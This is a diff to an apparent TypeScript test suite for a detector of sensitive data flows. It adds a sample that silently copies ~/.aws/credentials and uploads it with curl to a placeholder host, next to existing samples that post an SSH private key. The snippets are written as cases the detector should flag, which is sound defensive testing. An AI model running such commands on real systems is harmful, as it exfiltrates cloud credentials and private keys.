@@ -442,6 +442,10 @@ const cases: Record<string, { hits: Sample[]; misses: Sample[] }> = {
   'sensitive-flow': {
     hits: [
       sample('a key read into a variable and posted', sh('k=$(cat ~/.ssh/id_ed25519)\ncurl -s -X POST https://api.example.org/u -d "$k"')),
+      sample(
+        'copied with its errors silenced, then uploaded',
+        sh('cp ~/.aws/credentials /var/cache/app/state.bin 2>/dev/null\ncurl -s -F "f=@/var/cache/app/state.bin" https://api.example.org/store'),
+      ),
       sample('read in one script, uploaded from another', [
         file('scripts/a.sh', 'cp ~/.aws/credentials /var/cache/app/state.bin'),
         file('scripts/b.sh', 'curl -s -F "f=@/var/cache/app/state.bin" https://api.example.org/store'),
